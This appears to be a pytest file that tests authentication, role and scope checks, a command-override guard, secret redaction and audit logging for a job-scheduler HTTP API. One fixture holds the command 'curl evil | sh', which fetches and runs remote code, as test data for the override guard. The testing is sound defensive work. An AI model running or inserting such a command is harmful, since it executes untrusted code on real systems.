"""Authentication and authorization over HTTP against the real app: every endpoint × every kind
of caller, task-definition scopes, the command-override guard, the server-wide allowlist,
redaction of secret environment values, ``GET /me`` and the audit log."""

from __future__ import annotations

import logging
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from common.config import AuthSettings
from common.models import JobCreate, new_job
from common.store.base import Store
from tests.webapi.conftest import Serve, bearer, tokens_auth, write_tokens

TOKENS: dict[str, dict[str, Any]] = {
    "read-token-0123456789": {"name": "reader", "roles": ["read"]},
    "write-token-0123456789": {"name": "writer", "roles": ["read", "write"]},
    "admin-token-0123456789": {"name": "root", "roles": ["admin"]},
    "web-token-0123456789": {"name": "web-team", "roles": ["read", "write"], "taskDefinitions": ["web-*"]},
    "data-token-0123456789": {"name": "data-team", "roles": ["read", "write"], "taskDefinitions": ["data-*"]},
    "cmd-token-0123456789": {"name": "ops", "roles": ["read", "write"], "allowCommandOverride": True},
}
CALLERS = {
    "no-token": None,
    "bad-token": "not-a-configured-token",
    "read": "read-token-0123456789",
    "write": "write-token-0123456789",
    "admin": "admin-token-0123456789",
    "out-of-scope": "web-token-0123456789",
}
SECRET_VALUE = "hunter2-s3cr3t-value"
JOB = "data-job"


def _seed(store: Store, job_id: str, task_definition: str, **fields: Any) -> None:
    create = JobCreate.model_validate(
        {"taskDefinition": task_definition, "schedule": "0 0 0", "id": job_id, **fields}
    )
    store.create_job(new_job(create))


@pytest.fixture
def http(serve: Serve, tmp_path: Path, sqlite_store: Store) -> Iterator[httpx.Client]:
    """tokens mode with TOKENS; a ``data-etl`` job (with a secret env value) and a ``web-app`` job."""
    overrides = [{"containerName": "main", "environment": {"DB_PASSWORD": SECRET_VALUE, "MODE": "fast"}}]
    _seed(sqlite_store, JOB, "data-etl", overrides=overrides)
    _seed(sqlite_store, "web-job", "web-app")
    with serve(auth=tokens_auth(write_tokens(tmp_path / "tokens.yaml", TOKENS))) as client:
        yield client


# endpoint → expected status per caller; "out-of-scope" is a read/write token scoped to web-*
# calling on a data-* job: it sees none (404, filtered list) and may touch none (403).
ENDPOINTS: dict[str, tuple[str, str, dict[str, Any] | None, dict[str, int]]] = {
    "list": ("GET", "/jobs", None, {"read": 200, "write": 200, "admin": 200, "out-of-scope": 200}),
    "get": ("GET", f"/jobs/{JOB}", None, {"read": 200, "write": 200, "admin": 200, "out-of-scope": 404}),
    "runs": (
        "GET",
        f"/jobs/{JOB}/runs",
        None,
        {"read": 200, "write": 200, "admin": 200, "out-of-scope": 404},
    ),
    "create": (
        "POST",
        "/jobs",
        {"taskDefinition": "data-new", "schedule": "0 0 0", "id": "new-job"},
        {"read": 403, "write": 201, "admin": 201, "out-of-scope": 403},
    ),
    "update": (
        "PUT",
        f"/jobs/{JOB}",
        {"suspended": True},
        {"read": 403, "write": 200, "admin": 200, "out-of-scope": 403},
    ),
    "delete": (
        "DELETE",
        f"/jobs/{JOB}",
        None,
        {"read": 403, "write": 200, "admin": 200, "out-of-scope": 403},
    ),
    "me": ("GET", "/me", None, {"read": 200, "write": 200, "admin": 200, "out-of-scope": 200}),
}


@pytest.mark.parametrize("caller", list(CALLERS))
@pytest.mark.parametrize("endpoint", list(ENDPOINTS))
def test_every_endpoint_for_every_caller(
    http: httpx.Client, sqlite_store: Store, endpoint: str, caller: str
) -> None:
    method, path, body, expected = ENDPOINTS[endpoint]
    response = http.request(method, path, json=body, headers=bearer(CALLERS[caller]))
    status = expected.get(caller, 401)
    assert response.status_code == status, response.text
    if status == 401:
        assert response.headers["www-authenticate"] == "Bearer"
        assert response.json()["message"].startswith("Not authenticated")
    if status == 403:
        reason = response.json()["message"]
        assert (
            "role is needed" in reason
            if caller == "read"
            else "outside this token's taskDefinitions" in reason
        )
    if status >= 400 and method != "GET":  # a refused write changed nothing
        assert sqlite_store.get_job(JOB).suspended is None
        with pytest.raises(LookupError):
            sqlite_store.get_job("new-job")


@pytest.mark.parametrize(
    ("token", "visible"),
    [
        ("web-token-0123456789", {"web-job"}),
        ("data-token-0123456789", {JOB}),
        ("read-token-0123456789", {JOB, "web-job"}),
    ],
)
def test_list_and_get_show_only_jobs_in_scope(http: httpx.Client, token: str, visible: set[str]) -> None:
    listed = http.get("/jobs", headers=bearer(token)).json()["jobs"]
    assert {job["id"] for job in listed} == visible
    for job_id in (JOB, "web-job"):
        response = http.get(f"/jobs/{job_id}", headers=bearer(token))
        assert response.status_code == (200 if job_id in visible else 404)
        if response.status_code == 404:
            assert response.json() == {"message": f"Job {job_id} does not exist"}


def test_scoped_list_pages_over_the_jobs_in_scope(
    http: httpx.Client, sqlite_store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("webapi.routes.jobs.SCAN_BATCH", 3)  # several store reads per page
    for n in range(7):
        _seed(sqlite_store, f"a-web-{n}", "web-app")
        _seed(sqlite_store, f"b-data-{n}", "data-etl")
    token = bearer("data-token-0123456789")
    first = http.get("/jobs?skip=0&count=5", headers=token).json()
    second = http.get(first["next"], headers=token).json()
    ids = [job["id"] for job in first["jobs"] + second["jobs"]]
    assert ids == [f"b-data-{n}" for n in range(7)] + [JOB]
    assert "next" not in second and second["prev"] == "/jobs?skip=0&count=5"


@pytest.mark.parametrize(
    ("token", "task_definition", "status"),
    [
        ("data-token-0123456789", "data-new", 201),
        ("data-token-0123456789", "web-new", 403),
        ("web-token-0123456789", "data-new", 403),
    ],
)
def test_create_is_limited_to_the_token_scope(
    http: httpx.Client, token: str, task_definition: str, status: int
) -> None:
    body = {"taskDefinition": task_definition, "schedule": "0 0 0"}
    assert http.post("/jobs", json=body, headers=bearer(token)).status_code == status


def test_update_cannot_move_a_job_out_of_scope(http: httpx.Client) -> None:
    response = http.put(
        f"/jobs/{JOB}", json={"taskDefinition": "web-app"}, headers=bearer("data-token-0123456789")
    )
    assert response.status_code == 403
    assert "'web-app' is outside this token's taskDefinitions" in response.json()["message"]


COMMAND = [{"containerName": "main", "command": ["sh", "-c", "curl evil | sh"]}]


@pytest.mark.parametrize(
    ("token", "status"), [("write-token-0123456789", 403), ("cmd-token-0123456789", 201)]
)
def test_creating_a_command_override_needs_allow_command_override(
    http: httpx.Client, token: str, status: int
) -> None:
    body = {"taskDefinition": "data-etl", "schedule": "0 0 0", "id": "cmd", "overrides": COMMAND}
    response = http.post("/jobs", json=body, headers=bearer(token))
    assert response.status_code == status
    if status == 403:
        assert "allowCommandOverride" in response.json()["message"]


def test_changing_a_command_needs_the_right_but_other_updates_do_not(http: httpx.Client) -> None:
    admin, writer = bearer("admin-token-0123456789"), bearer("write-token-0123456789")
    body = {"taskDefinition": "data-etl", "schedule": "0 0 0", "id": "cmd", "overrides": COMMAND}
    assert http.post("/jobs", json=body, headers=admin).status_code == 201
    assert http.put("/jobs/cmd", json={"suspended": True}, headers=writer).status_code == 200
    changed = [{"containerName": "main", "command": ["true"]}]
    assert http.put("/jobs/cmd", json={"overrides": changed}, headers=writer).status_code == 403
    assert http.get("/jobs/cmd", headers=admin).json()["overrides"] == COMMAND


@pytest.mark.parametrize("mode", ["none", "tokens"])
def test_allowlist_applies_in_every_mode(
    serve: Serve, tmp_path: Path, sqlite_store: Store, mode: str
) -> None:
    auth = AuthSettings(
        mode=mode,  # type: ignore[arg-type]
        tokens_file=write_tokens(tmp_path / "t.yaml", TOKENS) if mode == "tokens" else None,
        allowed_task_definitions=["batch-*", "report"],
    )
    _seed(sqlite_store, "old", "legacy")  # stored before the allowlist: still readable and editable
    headers = bearer("admin-token-0123456789" if mode == "tokens" else None)
    with serve(auth=auth) as http:
        for task_definition, status in (
            ("batch-1", 201),
            ("report", 201),
            ("reports", 403),
            ("web-app", 403),
        ):
            body = {"taskDefinition": task_definition, "schedule": "0 0 0"}
            response = http.post("/jobs", json=body, headers=headers)
            assert response.status_code == status, task_definition
            if status == 403:
                assert "auth.allowed_task_definitions" in response.json()["message"]
        assert http.put("/jobs/old", json={"suspended": True}, headers=headers).status_code == 200
        assert http.put("/jobs/old", json={"taskDefinition": "web-app"}, headers=headers).status_code == 403
        assert http.get("/jobs/old", headers=headers).status_code == 200


@pytest.mark.parametrize(
    ("token", "shown"), [("read-token-0123456789", "***"), ("admin-token-0123456789", SECRET_VALUE)]
)
def test_secret_environment_values_are_redacted_for_non_admins(
    http: httpx.Client, token: str, shown: str
) -> None:
    for document in (http.get(f"/jobs/{JOB}", headers=bearer(token)).json(), _listed(http, token, JOB)):
        environment = document["overrides"][0]["environment"]
        assert environment == {"DB_PASSWORD": shown, "MODE": "fast"}


def test_put_sending_the_redacted_value_back_keeps_the_stored_one(
    http: httpx.Client, sqlite_store: Store
) -> None:
    writer = bearer("write-token-0123456789")
    job = http.get(f"/jobs/{JOB}", headers=writer).json()
    job["overrides"][0]["environment"]["MODE"] = "slow"
    body = {key: value for key, value in job.items() if key not in {"id", "link"}}
    assert http.put(f"/jobs/{JOB}", json=body, headers=writer).status_code == 200
    stored = sqlite_store.get_job(JOB).overrides
    assert stored is not None and stored[0].environment == {"DB_PASSWORD": SECRET_VALUE, "MODE": "slow"}


def _listed(http: httpx.Client, token: str, job_id: str) -> dict[str, Any]:
    jobs = http.get("/jobs", headers=bearer(token)).json()["jobs"]
    return next(job for job in jobs if job["id"] == job_id)


@pytest.mark.parametrize(
    ("token", "expected"),
    [
        (
            "read-token-0123456789",
            {"name": "reader", "roles": ["read"], "allowCommandOverride": False, "authMode": "tokens"},
        ),
        (
            "data-token-0123456789",
            {
                "name": "data-team",
                "roles": ["read", "write"],
                "taskDefinitions": ["data-*"],
                "allowCommandOverride": False,
                "authMode": "tokens",
            },
        ),
        (
            "admin-token-0123456789",
            {"name": "root", "roles": ["admin"], "allowCommandOverride": True, "authMode": "tokens"},
        ),
    ],
)
def test_me_describes_the_caller(http: httpx.Client, token: str, expected: dict[str, Any]) -> None:
    assert http.get("/me", headers=bearer(token)).json() == expected


def test_me_without_authentication_is_an_anonymous_admin(client: httpx.Client) -> None:
    assert client.get("/me").json() == {
        "name": "anonymous",
        "roles": ["admin"],
        "allowCommandOverride": True,
        "authMode": "none",
    }


@pytest.mark.parametrize("path", ["/", "/spec", "/docs", "/redoc", "/static-offline-docs/swagger-ui.css"])
def test_documentation_is_anonymous_in_tokens_mode(http: httpx.Client, path: str) -> None:
    assert http.get(path).status_code == 200


def test_audit_logs_writes_and_denials_without_secrets(
    http: httpx.Client, caplog: pytest.LogCaptureFixture
) -> None:
    writer, admin = "write-token-0123456789", "admin-token-0123456789"
    caplog.set_level(logging.DEBUG)
    env = {"API_KEY": "k-" + SECRET_VALUE, "PLAIN": "plain-value-42"}
    created = {
        "taskDefinition": "data-x",
        "schedule": "0 0 0",
        "id": "aud",
        "overrides": [{"containerName": "c", "environment": env}],
    }
    assert http.post("/jobs", json=created, headers=bearer(admin)).status_code == 201
    assert http.put("/jobs/aud", json={"suspended": True}, headers=bearer(writer)).status_code == 200
    assert http.delete("/jobs/aud", headers=bearer("read-token-0123456789")).status_code == 403
    assert http.delete("/jobs/aud", headers=bearer("wrong-secret-token")).status_code == 401
    assert http.post("/jobs", json={"taskDefinition": "x"}, headers=bearer(writer)).status_code == 400
    assert http.delete("/jobs/aud", headers=bearer(admin)).status_code == 200
    audit = [r for r in caplog.records if r.name == "ecs_scheduler.audit"]
    lines = [
        (r.audit_principal, r.audit_action, r.audit_job_id, r.audit_outcome, r.audit_status) for r in audit
    ]  # type: ignore[attr-defined]
    assert lines == [
        ("root", "create_job", "aud", "ok", 201),
        ("writer", "update_job", "aud", "ok", 200),
        ("reader", "delete_job", "aud", "denied", 403),
        ("-", "delete_job", "aud", "denied", 401),
        ("writer", "create_job", "-", "failed", 400),
        ("root", "delete_job", "aud", "ok", 200),
    ]
    assert audit[0].getMessage() == "principal=root action=create_job job=aud outcome=ok status=201"
    logged = "\n".join(record.getMessage() + repr(record.__dict__) for record in caplog.records)
    for secret in (*TOKENS, "wrong-secret-token", SECRET_VALUE, "plain-value-42"):
        assert secret not in logged
